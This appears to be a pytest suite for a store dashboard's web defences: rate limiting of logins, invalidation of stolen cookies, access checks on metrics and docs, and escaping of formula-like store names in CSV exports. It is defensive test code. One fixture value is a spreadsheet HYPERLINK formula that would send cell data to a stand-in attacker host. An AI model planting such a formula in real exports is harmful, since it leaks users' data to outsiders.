"""The web side's defences as a user meets them: `python -m dashboard serve` in its own process,
over plain HTTP, with the users and stores made by the `users` and `stores` commands."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import httpx
import pytest

from scripts.broker import free_port, wait_for_listener

PY = sys.executable
SECRET = "web-security-" + "Zq9x" * 10
METRICS_TOKEN = "metrics-" + "Yk3w" * 10
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Report")'


def dashboard(*args: str, db: str) -> str:
    done = subprocess.run(
        [PY, "-m", "dashboard", args[0], "--db", db, *args[1:]], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """A dashboard on a free port with an hq user, a manager and a store named like a formula."""
    work = tmp_path_factory.mktemp("web-security")
    db = f"sqlite:///{work / 'dashboard.sqlite3'}"
    (work / "secret").write_text(SECRET + "\n")
    (work / "metrics-token").write_text(METRICS_TOKEN + "\n")
    for name in ("boss", "ann", "cat"):
        (work / name).write_text(f"{name}-password\n")
    dashboard("stores", "add", "shop-1", "--name", FORMULA, "--region", "+north", db=db)
    dashboard("users", "add", "boss", "--role", "hq", "--password-file", str(work / "boss"), db=db)
    dashboard(
        "users",
        "add",
        "ann",
        "--role",
        "manager",
        "--stores",
        "shop-1",
        "--password-file",
        str(work / "ann"),
        db=db,
    )
    dashboard("users", "add", "cat", "--role", "hq", "--password-file", str(work / "cat"), db=db)
    port = free_port()
    env = {
        "PATH": "/usr/bin:/bin",
        "FOOTFALL_SECRET_FILE": str(work / "secret"),
        "FOOTFALL_METRICS_TOKEN_FILE": str(work / "metrics-token"),
    }
    with open(work / "serve.log", "w") as log:
        process = subprocess.Popen(
            [PY, "-m", "dashboard", "serve", "--db", db, "--port", str(port), "--plain-http"],
            stdout=log,
            stderr=subprocess.STDOUT,
            env=env,
        )
        try:
            wait_for_listener(process, port, timeout_s=60)
            yield f"http://127.0.0.1:{port}", db, work
        finally:
            process.terminate()
            process.wait(30)


def log_in(url: str, name: str, password: str | None = None) -> httpx.Client:
    client = httpx.Client(base_url=url, headers={"origin": url}, timeout=30)
    response = client.post("/api/v1/session", json=dict(name=name, password=password or f"{name}-password"))
    assert response.status_code == 200, response.text
    return client


def copy_of(url: str, client: httpx.Client) -> httpx.Client:
    """A client holding only the cookie copied from `client` (what a thief would keep)."""
    return httpx.Client(base_url=url, cookies=dict(client.cookies), timeout=30)


def test_repeated_wrong_passwords_get_429_with_retry_after(served):
    url, _, work = served
    with httpx.Client(base_url=url, headers={"origin": url}, timeout=30) as guesser:
        statuses = []
        for _ in range(8):
            response = guesser.post("/api/v1/session", json=dict(name="Guessed", password="password123"))
            statuses.append(response.status_code)
            if response.status_code == 429:
                retry_after = int(response.headers["retry-after"])
        assert statuses[:5] == [401] * 5 and statuses[5:] == [429] * 3, statuses
        assert retry_after >= 1
        # The login form says the same, with the same header.
        page = guesser.get("/login").text
        token = page.split('name="csrf_token" value="')[1].split('"')[0]
        form = guesser.post("/login", data=dict(username="guessed", password="x" * 8, csrf_token=token))
        assert form.status_code == 429 and "try again in" in form.text and form.headers["retry-after"]
    assert (
        "login: account 'guessed' closed for 1 s after repeated failures" in (work / "serve.log").read_text()
    )


def test_a_cookie_kept_from_before_logout_password_change_or_revoke_gets_401(served):
    url, db, work = served
    ann = log_in(url, "ann")
    stolen = copy_of(url, ann)
    assert stolen.get("/api/v1/me").status_code == 200
    assert ann.delete("/api/v1/session").status_code == 204
    assert stolen.get("/api/v1/me").status_code == 401

    cat = log_in(url, "cat")
    stolen = copy_of(url, cat)
    changed = cat.put("/api/v1/me/password", json=dict(current="cat-password", new="cat-new-password"))
    assert changed.status_code == 204, changed.text
    assert stolen.get("/api/v1/me").status_code == 401
    assert log_in(url, "cat", "cat-new-password").get("/api/v1/me").status_code == 200

    boss = log_in(url, "boss")
    stolen = copy_of(url, boss)
    token = dashboard("users", "token", "boss", "--days", "7", db=db).strip()
    assert httpx.get(f"{url}/api/v1/me", headers={"authorization": f"Bearer {token}"}).status_code == 200
    assert "1 session(s) ended, 1 API token(s) deleted" in dashboard("users", "revoke", "boss", db=db)
    assert stolen.get("/api/v1/me").status_code == 401
    assert boss.get("/api/v1/me").status_code == 401
    assert httpx.get(f"{url}/api/v1/me", headers={"authorization": f"Bearer {token}"}).status_code == 401


def test_metrics_refused_without_credentials(served):
    url, _, _ = served
    assert httpx.get(f"{url}/metrics").status_code == 401
    assert httpx.get(f"{url}/metrics", headers={"authorization": "Bearer guessed-token"}).status_code == 401
    ann = log_in(url, "ann")
    assert ann.get("/metrics").status_code == 403  # a manager
    scraped = httpx.get(f"{url}/metrics", headers={"authorization": f"Bearer {METRICS_TOKEN}"})
    assert scraped.status_code == 200 and "footfall_cameras_online" in scraped.text


def test_docs_and_openapi_need_a_login(served):
    url, _, _ = served
    assert httpx.get(f"{url}/openapi.json").status_code == 401
    anonymous = httpx.get(f"{url}/docs")
    assert anonymous.status_code == 303 and anonymous.headers["location"] == "/login?next=/docs"
    ann = log_in(url, "ann")
    assert ann.get("/openapi.json").json()["info"]["title"] == "Footfall dashboard"
    page = ann.get("/docs").text
    assert "/docs/assets/swagger-ui-bundle.js" in page and "cdn" not in page.lower()


def test_a_store_named_like_a_formula_is_exported_with_a_leading_quote(served):
    url, _, _ = served
    ann = log_in(url, "ann")
    exported = ann.get("/api/v1/stores", params=dict(format="csv")).text
    [row] = csv.DictReader(io.StringIO(exported))
    assert (row["name"], row["region"]) == ("'" + FORMULA, "'+north")


def test_the_serve_log_names_the_plain_http_flag(served):
    _, _, work = served
    assert "session cookies are not Secure" in Path(work / "serve.log").read_text()


@pytest.mark.browser
def test_docs_render_for_a_logged_in_user_with_other_hosts_blocked(served, browser):
    """Swagger UI comes from the dashboard itself: with every request to another host aborted,
    /docs still draws the API and runs a call; nothing was asked of any host but the dashboard."""
    url, _, _ = served
    context = browser.new_context()
    requested: list[str] = []

    def only_the_dashboard(route) -> None:
        requested.append(route.request.url)
        if route.request.url.startswith(url + "/"):
            route.continue_()
        else:
            route.abort()

    context.route("**/*", only_the_dashboard)
    page = context.new_page()
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.goto(url + "/docs")
    assert page.url.startswith(url + "/login")  # not logged in: the login page, then back
    page.fill("input[name=username]", "ann")
    page.fill("input[name=password]", "ann-password")
    page.click("button[type=submit]")
    page.wait_for_url(url + "/docs")
    page.wait_for_selector(".swagger-ui .info .title")
    assert "Footfall dashboard" in page.inner_text(".swagger-ui .info .title")
    assert page.locator(".opblock").count() > 10
    me = page.locator("#operations-session-me_api_v1_me_get")
    me.locator(".opblock-summary").click()
    me.locator("button.try-out__btn").click()
    me.locator("button.execute").click()
    status = me.locator(".live-responses-table .response .response-col_status").first
    status.wait_for()
    assert status.inner_text().strip() == "200"
    assert '"name": "ann"' in me.locator(".live-responses-table .microlight").first.inner_text()
    outside = [r for r in requested if not r.startswith(url + "/")]
    assert outside == [] and not errors, (outside, errors)
    assert any(r.endswith("/docs/assets/swagger-ui-bundle.js") for r in requested)
    context.close()
